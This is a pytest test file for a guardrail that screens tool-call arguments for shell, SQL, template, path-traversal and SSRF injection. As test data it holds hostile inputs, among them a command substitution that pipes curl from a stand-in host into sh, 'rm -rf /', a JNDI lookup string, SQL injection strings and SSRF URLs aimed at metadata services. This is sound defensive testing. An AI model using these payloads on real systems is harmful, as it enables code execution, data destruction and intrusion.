"""Code in arguments is judged by what the argument is for."""

from __future__ import annotations

from typing import Any

import pytest

from secure_gateway.errors import ConfigError
from secure_gateway.plugins.guardrails.base import (
    GuardrailAction,
    GuardrailProvider,
    GuardrailRequest,
    ToolRegistrationRequest,
)
from secure_gateway.plugins.guardrails.code_injection import CodeGuard, CodeInjectionGuardrailProvider
from secure_gateway.plugins.guardrails.config_manager import GuardrailConfigManager
from secure_gateway.plugins.guardrails.scanner.code_addresses import bad_addresses, parse_address
from secure_gateway.plugins.guardrails.value_guard import ValueRequest


def guard(**config: Any) -> CodeGuard:
    return CodeInjectionGuardrailProvider(config).create_input_guardrail({})


def kinds(arguments: Any, tool: str = "t") -> set[str]:
    return {finding.type for finding in guard().find(arguments, tool)}


@pytest.mark.parametrize(
    ("arguments", "kind"),
    [
        ({"path": "; rm -rf /"}, "SHELL_INJECTION"),
        ({"branch": "main$(curl http://x.example|sh)"}, "SHELL_INJECTION"),
        ({"options": {"file": ["a.txt`id`"]}}, "SHELL_INJECTION"),
        ({"repo": "--upload-pack=touch /tmp/x"}, "SHELL_INJECTION"),
        ({"id": "1' OR '1'='1"}, "SQL_INJECTION"),
        ({"id": "1'/**/OR/**/1=1#"}, "SQL_INJECTION"),
        ({"id": "1'||'1'='1"}, "SQL_INJECTION"),
        ({"query": "admin'--"}, "SQL_INJECTION"),
        ({"sort": "id; SELECT * FROM users"}, "SQL_INJECTION"),
        ({"file": "a.txt$(IFS=_;cmd=id;$cmd)"}, "SHELL_INJECTION"),
        ({"url": "http://0/"}, "SSRF"),
        ({"user": "x%27%20OR%201%3D1--"}, "SQL_INJECTION"),
        ({"id": "1\uff07 OR 1=1 --"}, "SQL_INJECTION"),
        ({"name": "Robert'); DROP TABLE students;--"}, "SQL_INJECTION"),
        ({"name": "{{7*7}}"}, "TEMPLATE_INJECTION"),
        ({"agent": "${jndi:ldap://x.example/a}"}, "TEMPLATE_INJECTION"),
        ({"path": "../../etc/passwd"}, "PATH_TRAVERSAL"),
        ({"file": "..%252f..%252fetc%252fpasswd"}, "PATH_TRAVERSAL"),
        ({"file": "a.txt\x00.png"}, "PATH_TRAVERSAL"),
        ({"x": "..\\..\\windows\\win.ini"}, "PATH_TRAVERSAL"),
        ({"url": "http://169.254.169.254/latest/meta-data"}, "SSRF"),
        ({"x": "http://[::ffff:10.0.0.1]/"}, "SSRF"),
        ({"host": "localhost:6379"}, "SSRF"),
        ({"url": "https://example.org/?next=http://10.0.0.1/"}, "SSRF"),
        ({"url": "gopher://example.org/_x"}, "SSRF"),
    ],
)
def test_code_in_an_argument_that_is_for_something_else_is_an_attack(arguments: Any, kind: str) -> None:
    assert kind in kinds(arguments)


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("send_message", {"message": "Never run `; rm -rf /` or open ../../etc/passwd at http://10.0.0.1/"}),
        ("run_query", {"query": "SELECT * FROM users WHERE city = 'a' OR city = 'b' -- both"}),
        ("t", {"sql": "DROP TABLE tmp;"}),
        ("t", {"command": "ls -la && cat x | grep y"}),
        ("t", {"code": "print(f'{7*7}')"}),
        ("t", {"name": "O'Brien & Sons; Ltd"}),
        ("t", {"name": "Hello {{name}}"}),
        ("t", {"mood": ":) ;) | :-) && <3"}),
        ("t", {"version": ">=1.2.3 || ^2.0.0"}),
        ("t", {"text": "I'd select from the union of both sets; drop the rest -- thanks"}),
        ("t", {"title": "drop shipping; select the best offers from our shop"}),
        ("t", {"path": "src/../docs/x.md"}),
        ("t", {"path": "../README.md"}),
        ("t", {"url": "https://user:pw@files.example.org/a?b=c&d=e"}),
        ("t", {"url": "https://203.0.113.9/"}),
        ("t", {"version": ">=1.2 || <3"}),
        ("t", {"count": 7, "flag": True, "nothing": None}),
    ],
)
def test_code_where_it_belongs_and_talk_about_it_are_left_alone(tool: str, arguments: Any) -> None:
    assert kinds(arguments, tool) == set()


@pytest.mark.parametrize(
    ("host", "address"),
    [("2130706433", "127.0.0.1"), ("0x7f000001", "127.0.0.1"), ("0177.0.0.1", "127.0.0.1"), ("127.1", "127.0.0.1"), ("10.0.513", "10.0.2.1"), ("[", None), ("1.2.3.4.5", None), ("999.1.1.1", None), ("0x", None), ("09.0.0.1", None)],
)  # fmt: skip
def test_an_address_is_read_as_resolvers_read_it(host: str, address: str | None) -> None:
    assert (str(parsed) if (parsed := parse_address(host)) else None) == address


def test_a_name_before_the_at_that_looks_like_a_host_is_a_trick() -> None:
    assert list(bad_addresses("https://trusted.example.com@other.example.org/"))
    assert not list(bad_addresses("https://anna:secret@other.example.org/"))


def test_a_schema_says_what_an_argument_without_a_telling_name_is_for() -> None:
    provider = CodeInjectionGuardrailProvider({})
    tool = {
        "name": "go",
        "inputSchema": {
            "properties": {"x": {"type": "string", "format": "hostname"}, "y": {"description": "The SQL to run."}}
        },
    }
    assert (
        provider.validate_tool_registration(
            ToolRegistrationRequest(server_name="s", tools=[tool, {"name": "odd", "inputSchema": 7}])
        )
        is None
    )
    made = provider.create_input_guardrail({})
    assert {finding.type for finding in made.find({"x": "metadata.google.internal"}, "go", "s")} == {"SSRF"}
    assert made.find({"x": "metadata.google.internal"}, "go", "other") == []
    assert made.find({"y": "SELECT 1; DELETE FROM t; SELECT 2"}, "go", "s") == []
    assert made.find({"y": "SELECT 1; DELETE FROM t; SELECT 2"}, "go", "other") != []


async def test_it_blocks_or_warns_and_quotes_nothing() -> None:
    request = ValueRequest(value={"path": "; rm -rf /secret"}, hook="tool_pre_invoke", name="t")
    blocked = await guard().validate_value(request)
    assert blocked.action is GuardrailAction.BLOCK
    assert "secret" not in repr(blocked.violations) + blocked.violations[0].message
    assert (await guard(action="warn").validate_value(request)).action is GuardrailAction.WARN
    assert (await guard(types=["SSRF"]).validate_value(request)).action is GuardrailAction.ALLOW
    text = GuardrailRequest(content="{}", tool_name="t", tool_args={"path": "; rm -rf /"})
    assert not (await guard().validate(text)).is_safe
    assert (await guard().validate(GuardrailRequest(content="hello"))).is_safe


def test_results_are_not_judged_and_no_tool_is_refused() -> None:
    provider: GuardrailProvider = CodeInjectionGuardrailProvider({})
    assert provider.create_output_guardrail({}) is None


@pytest.mark.parametrize(
    "config", [{"action": "redact"}, {"types": ["X"]}, {"exclude": ["SSRF"], "types": ["SSRF"]}, {"typs": []}]
)
def test_a_configuration_that_cannot_be_meant_is_refused(config: dict[str, Any]) -> None:
    with pytest.raises(ConfigError):
        CodeInjectionGuardrailProvider(config)


@pytest.mark.parametrize(
    "piece",
    [
        "../",
        "%2e",
        "'/**/",
        "{{",
        "${",
        "http://",
        "; ",
        "\ud800",
        "\u0301",
        "$(",
        "1' or ",
        "union select ",
        "..%c0%af",
        "A",
    ],
)
def test_half_a_megabyte_of_anything_is_judged_to_its_end(piece: str) -> None:
    text = piece * (500_000 // len(piece))
    guard().find({"path": text, "url": text, "id": text, "sql": text, "q": text})


TICKETS = {"address": "10.1.2.3", "reason": "the ticket system; OPS-12"}


def inside(*addresses: str) -> dict[str, Any]:
    return {"allow_private": [{"address": address, "reason": "ours"} for address in addresses]}


def leads_inside(url: str, **config: Any) -> bool:
    return "SSRF" in {finding.type for finding in guard(**config).find({"url": url}, "fetch", "s")}


@pytest.mark.parametrize(
    "url",
    [
        "http://10.1.2.3/",
        "http://10.1.2.3:8080/a?b=c@d",
        "http://10.1.2.3./",
        "http://167838211/",
        "http://0x0a010203/",
        "http://012.1.2.3/",
        "http://10.66051/",
        "http://[::ffff:10.1.2.3]/",
        "http://[::ffff:a01:203]/x",
        "http://%31%30.1.2.3/",
        "10.1.2.3:8080/x",
    ],
)
def test_an_address_that_may_be_reached_may_be_in_every_spelling_that_leads_to_it(url: str) -> None:
    assert not leads_inside(url, allow_private=[TICKETS])
    assert leads_inside(url)


@pytest.mark.parametrize(
    "url",
    [
        "http://10.1.2.4/",
        "http://10.1.2.33/",
        "http://10.1.2.3.nip.io/",
        "http://x@10.1.2.3/",
        "http://example.org@10.1.2.3/",
        "http://10.1.2.3@10.1.2.4/",
        "http://10.1.2.3#@169.254.169.254/",
        "http://10.1.2.3?@169.254.169.254/",
        "http://10.1.2.3\\@169.254.169.254/",
        "http://10.1.2.3/\\@169.254.169.254/",
        "http://10.1.2.3/ http://169.254.169.254/",
        "http://10.1.2.3/?next=http://10.1.2.4/",
        "http://10.1.2.3\t@169.254.169.254/",
        "http://[64:ff9b::a01:204]/",
        "http://[::ffff:10.1.2.4]/",
        "http://2852039166/",
        "http://localhost/",
        "file://10.1.2.3/etc/passwd",
        "gopher://10.1.2.3/",
        "10.1.2.3#@169.254.169.254",
    ],
)
def test_what_may_be_reached_opens_nothing_beside_it(url: str) -> None:
    assert leads_inside(url, allow_private=[TICKETS])


def test_a_network_holds_its_addresses_and_a_name_itself_only() -> None:
    own = inside("10.1.2.0/24", "tickets.corp.internal", "100.64.0.0/10", "fd12:3456::/32")
    for url in ("http://10.1.2.77/", "http://Tickets.Corp.Internal./x", "http://[fd12:3456::9]/", "http://100.64.7.7/"):
        assert not leads_inside(url, **own), url
    for url in (
        "http://10.1.3.1/",
        "http://a.tickets.corp.internal/",
        "http://corp.internal/",
        "http://100.100.100.200/",  # a metadata service within a network that is let through
        "http://169.254.169.254/",
    ):
        assert leads_inside(url, **own), url


def test_what_may_be_reached_by_one_tool_may_by_no_other() -> None:
    manager = GuardrailConfigManager()
    manager.initialize({"plugins": {"guardrails": {"provider": "code_injection"}}})
    policy = {"tools": {"ticket": {"input": {"code_injection": {"allow_private": [TICKETS]}}}}}
    manager.bindings("s", policy)

    def finds(tool: str, server_policy: Any) -> int:
        (applied,) = manager.applied(tool, "s", server_policy)
        return len(applied.fitted.guards.input.find({"url": "http://10.1.2.3/"}, tool, "s"))

    assert (finds("ticket", policy), finds("fetch", policy), finds("ticket", {})) == (0, 1, 1)


@pytest.mark.parametrize(
    ("said", "path"),
    [
        ("10.1.2.3", "allow_private"),
        (["10.1.2.3"], "allow_private[0]"),
        ([{"address": "10.1.2.3"}], "allow_private[0]"),
        ([{"address": "10.1.2.3", "reason": " "}], "allow_private[0].reason"),
        ([{**TICKETS, "until": "x"}], "allow_private[0].until"),
        ([{**TICKETS, "address": "10.1.2.3/24"}], "allow_private[0].address"),
        ([{**TICKETS, "address": "0.0.0.0/0"}], "allow_private[0].address"),
        ([{**TICKETS, "address": "::/0"}], "allow_private[0].address"),
        ([{**TICKETS, "address": "169.254.169.254"}], "allow_private[0].address"),
        ([{**TICKETS, "address": "*.internal"}], "allow_private[0].address"),
        ([{**TICKETS, "address": "http://10.1.2.3/"}], "allow_private[0].address"),
        ([{**TICKETS, "address": "167838211"}], "allow_private[0].address"),
        ([{**TICKETS, "address": ""}], "allow_private[0].address"),
        ([TICKETS, {**TICKETS, "adress": "10.1.2.4"}], "allow_private[1].adress"),
    ],
)
def test_what_may_be_reached_is_named_exactly_and_with_a_reason(said: Any, path: str) -> None:
    with pytest.raises(ConfigError) as refused:
        CodeInjectionGuardrailProvider({"allow_private": said})
    assert [problem.path for problem in refused.value.problems] == [f"$.config.{path}"]
